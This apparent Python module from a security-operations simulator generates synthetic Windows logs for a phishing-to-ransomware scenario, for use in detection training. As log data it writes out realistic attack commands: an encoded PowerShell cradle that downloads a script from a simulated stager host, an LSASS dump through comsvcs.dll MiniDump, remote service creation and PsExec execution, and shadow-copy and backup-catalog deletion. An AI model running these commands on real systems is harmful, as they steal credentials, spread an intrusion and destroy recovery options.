"""Story c: phishing attachment to ransomware across several machines.

Outlook opens a macro document in Word; Word starts hidden, encoded PowerShell that downloads a
loader; the loader dumps LSASS with ``comsvcs.dll`` MiniDump; with the harvested administrator
credentials the attacker creates a remote service on the file server (``sc.exe \\\\FS-01 create``)
and uses PsExec on the database server; then shadow copies and the backup catalog are deleted
and files are encrypted (many Sysmon 11 creations with a new extension, a ransom note per
folder) on the workstation and both servers.
"""

from __future__ import annotations

import base64
import random
from datetime import date

from autosoc.simulate import ipplan
from autosoc.simulate.clock import HOUR, MINUTE, SECOND, day_start
from autosoc.simulate.ids import alnum
from autosoc.simulate.org import Host, Organisation
from autosoc.simulate.presence import Segment
from autosoc.simulate.stories.base import Story
from autosoc.simulate.windows import catalog as C
from autosoc.simulate.windows.events import SYSTEM_USER, Proc, WinLog, logon_session

EXT = ".kraken"
NOTE = "HOW_TO_RESTORE_FILES.txt"
FOLDERS = ("Finance", "HR\\Contracts", "Projects", "Sales\\Quotes", "Legal", "Shared\\Templates")
FILES = ("budget", "forecast", "contract", "offer", "invoice", "report", "plan", "minutes", "quote", "policy")
EXTS = (".xlsx", ".docx", ".pdf", ".pptx", ".csv")
LSASS_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
               "c:\\windows\\system32\\dbgcore.DLL+6d3b|c:\\windows\\system32\\dbgcore.DLL+1b6a|"
               "C:\\Windows\\System32\\comsvcs.dll+3b0fd|C:\\Windows\\system32\\rundll32.exe+3bd4|"
               "C:\\Windows\\System32\\KERNEL32.DLL+17374|C:\\Windows\\SYSTEM32\\ntdll.dll+4cc91")


def build(org: Organisation, day: date, rng: random.Random, segments: dict[str, tuple[Segment, ...]]) -> Story:
    candidates = [u for u in org.users if not u.is_admin and any(s.at_office for s in segments[u.sam].get(day, ()))]
    victim = rng.choice(candidates or [u for u in org.users if not u.is_admin])
    seg = next((s for s in segments[victim.sam].get(day, ()) if s.at_office), None)
    admin = rng.choice(org.admins())
    ws = org.by_host[victim.host]
    fs, sql = org.by_host["FS-01"], org.by_host["SQL-01"]
    stager = ipplan.STAGER.pick(rng)
    story = Story("c-ransomware", "c", "Phishing macro, encoded PowerShell, LSASS dump, lateral movement, ransomware",
                  [f"user:CORP\\{victim.sam}", f"user:CORP\\{admin.sam}", f"host:{ws.fqdn}", f"host:{fs.fqdn}",
                   f"host:{sql.fqdn}", f"ip:{stager}"],
                  ["Office application spawning PowerShell", "encoded PowerShell command line",
                   "LSASS memory dump (comsvcs.dll MiniDump, Sysmon 10 access to lsass)",
                   "remote service creation and PsExec from a workstation",
                   "shadow copy and backup catalog deletion", "mass file creation with a new extension"])
    start, end = (seg.start, seg.end) if seg else (day_start(day) + 14 * HOUR, day_start(day) + 20 * HOUR)
    us = start + rng.randrange(30 * MINUTE, max(31 * MINUTE, end - start - 3 * HOUR))
    sess = logon_session(org.seed, ws, day.isoformat())
    home = C.user_home(victim.sam)
    step = "phishing attachment"
    log = WinLog(ws, rng, story.add(("windows", ws.name), step), seed=org.seed)
    outlook = Proc(log.new_guid(us - 3 * HOUR), rng.randrange(4000, 16000, 4), C.IMAGES["outlook"],
                   f'"{C.IMAGES["outlook"]}" ', victim.domain_user, sess.logon_guid, sess.logon_id, sess.session,
                   "Medium", home + "\\", None, victim.sid)
    doc = f"{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{alnum(rng, 8)}\\" \
          f"Invoice_{rng.randrange(1000, 9999)}.docm"
    log.file_create(us, outlook, doc)
    word = log.spawn(us + 4 * SECOND, outlook, C.IMAGES["winword"], f'"{C.IMAGES["winword"]}" /n "{doc}" /o ""')
    log.file_create(us + 6 * SECOND, word, doc.rsplit("\\", 1)[0] + "\\~$" + doc.rsplit("\\", 1)[1][2:])
    log.emit = story.add(("windows", ws.name), "macro: encoded PowerShell")
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('https://{stager}/s/update.ps1')"
    enc = base64.b64encode(cradle.encode("utf-16-le")).decode()
    us += 15 * SECOND
    ps = log.spawn(us, word, C.IMAGES["powershell"],
                   f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -W Hidden -enc {enc}')
    log.network(us + 2 * SECOND, ps, ws.ip, stager, 443)
    loader = "C:\\ProgramData\\Microsoft\\DeviceSync\\wdsync.exe"
    log.file_create(us + 5 * SECOND, ps, loader)
    log.emit = story.add(("windows", ws.name), "credential dumping")
    us += rng.randrange(5, 20) * MINUTE
    lsass = log.lsass
    rundll = log.spawn(us, ps, C.IMAGES["rundll32"],
                       f'"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump '
                       f'{lsass.pid} C:\\ProgramData\\Microsoft\\DeviceSync\\d.dmp full', integrity="High")
    log.process_access(us + SECOND, rundll, lsass, "0x1fffff", LSASS_TRACE)
    log.file_create(us + 2 * SECOND, rundll, "C:\\ProgramData\\Microsoft\\DeviceSync\\d.dmp")
    # lateral movement with the administrator's credentials
    us += rng.randrange(10, 30) * MINUTE
    log.emit = story.add(("windows", ws.name), "lateral movement")
    cmd = log.spawn(us, ps, C.IMAGES["cmd"], '"C:\\Windows\\system32\\cmd.exe" /c sc.exe \\\\FS-01 create '
                    'WdSyncSvc binPath= "C:\\Windows\\Temp\\wdsync.exe" start= demand', integrity="High")
    log.spawn(us + SECOND, cmd, C.IMAGES["sc"], 'sc.exe  \\\\FS-01 create WdSyncSvc binPath= '
              '"C:\\Windows\\Temp\\wdsync.exe" start= demand')
    log.network(us + 2 * SECOND, cmd, ws.ip, fs.ip, 445, dst_host=fs.fqdn)
    psexec = f"{home}\\AppData\\Local\\Temp\\PsExec64.exe"
    log.file_create(us + 3 * MINUTE, ps, psexec)
    px = log.spawn(us + 4 * MINUTE, ps, psexec, f'"{psexec}" \\\\SQL-01 -accepteula -s -d cmd.exe /c '
                   '"C:\\Windows\\Temp\\wdsync.exe"', integrity="High")
    log.network(us + 4 * MINUTE + SECOND, px, ws.ip, sql.ip, 445, dst_host=sql.fqdn)
    fs_log = WinLog(fs, rng, story.add(("windows", fs.name), "lateral movement"), seed=org.seed)
    _remote_logon(fs_log, us + 2 * SECOND, admin, ws)
    fs_log.service_installed(us + 3 * SECOND, "WdSyncSvc", "C:\\Windows\\Temp\\wdsync.exe", sid=admin.sid)
    payload = "C:\\Windows\\Temp\\wdsync.exe"
    svc = fs_log.spawn(us + 10 * SECOND, fs_log.services, payload, payload,
                       user=SYSTEM_USER, integrity="System", audit=True)
    sql_log = WinLog(sql, rng, story.add(("windows", sql.name), "lateral movement"), seed=org.seed)
    t = us + 4 * MINUTE + 2 * SECOND
    _remote_logon(sql_log, t, admin, ws)
    sql_log.file_create(t + SECOND, sql_log.system_proc, "C:\\Windows\\PSEXESVC.exe")
    sql_log.service_installed(t + 2 * SECOND, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", sid=admin.sid)
    psexesvc = sql_log.spawn(t + 3 * SECOND, sql_log.services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                             user=SYSTEM_USER, integrity="System", audit=True)
    sql_cmd = sql_log.spawn(t + 4 * SECOND, psexesvc, C.IMAGES["cmd"], 'cmd.exe /c "C:\\Windows\\Temp\\wdsync.exe"',
                            audit=True)
    sql_payload = sql_log.spawn(t + 5 * SECOND, sql_cmd, "C:\\Windows\\Temp\\wdsync.exe",
                                "C:\\Windows\\Temp\\wdsync.exe", audit=True)
    # impact, a little later, on all three machines
    impact = t + rng.randrange(20, 60) * MINUTE
    ws_payload = log.spawn(impact - MINUTE, ps, loader, f'"{loader}" --encrypt', integrity="High")
    for host_log, payload, roots in ((log, ws_payload, (f"{C.onedrive(victim.sam)}\\Documents", f"{home}\\Desktop")),
                                     (fs_log, svc, ("D:\\Shares",)), (sql_log, sql_payload, ("D:\\Backups",))):
        host_log.emit = story.add(("windows", host_log.host.name), "inhibit recovery")
        _inhibit_recovery(host_log, payload, impact, audit=host_log is not log)
        host_log.emit = story.add(("windows", host_log.host.name), "encryption")
        _encrypt(host_log, payload, impact + 30 * SECOND, roots, rng)
    story.details = {"victim": victim.upn, "workstation": ws.fqdn, "admin_credentials": admin.upn,
                     "stager": stager, "extension": EXT, "ransom_note": NOTE}
    return story


def _remote_logon(log: WinLog, us: int, admin, ws: Host) -> None:  # type: ignore[no-untyped-def]
    logon_id = f"{log.rng.randrange(0x1000000, 0x7FFFFFFF):#x}"
    log.logon(us, 3, admin.sam, admin.sid, logon_id, ip=ws.ip, port=str(log.rng.randrange(49152, 65535)),
              workstation=ws.name, package="NTLM")
    log.special_privileges(us, admin.sam, admin.sid, logon_id)


def _inhibit_recovery(log: WinLog, payload: Proc, us: int, *, audit: bool) -> None:
    cmd = log.spawn(us, payload, C.IMAGES["cmd"], '"C:\\Windows\\system32\\cmd.exe" /c vssadmin.exe delete shadows '
                    '/all /quiet & wbadmin delete catalog -quiet & bcdedit /set {default} recoveryenabled No',
                    integrity="High" if payload.integrity != "System" else "System", audit=audit)
    log.spawn(us + SECOND, cmd, C.IMAGES["vssadmin"], "vssadmin.exe  delete shadows /all /quiet", audit=audit)
    log.spawn(us + 3 * SECOND, cmd, C.IMAGES["wbadmin"], "wbadmin  delete catalog -quiet", audit=audit)
    log.spawn(us + 4 * SECOND, cmd, C.IMAGES["bcdedit"], "bcdedit  /set {default} recoveryenabled No", audit=audit)


def _encrypt(log: WinLog, payload: Proc, us: int, roots: tuple[str, ...], rng: random.Random) -> None:
    for root in roots:
        for folder in FOLDERS:
            base = f"{root}\\{folder}"
            log.file_create(us, payload, f"{base}\\{NOTE}")
            for _ in range(rng.randrange(15, 40)):
                us += rng.randrange(20_000, 400_000)
                name = f"{rng.choice(FILES)}_{rng.randrange(2019, 2027)}_{rng.randrange(1, 99):02d}{rng.choice(EXTS)}"
                log.file_create(us, payload, f"{base}\\{name}{EXT}")
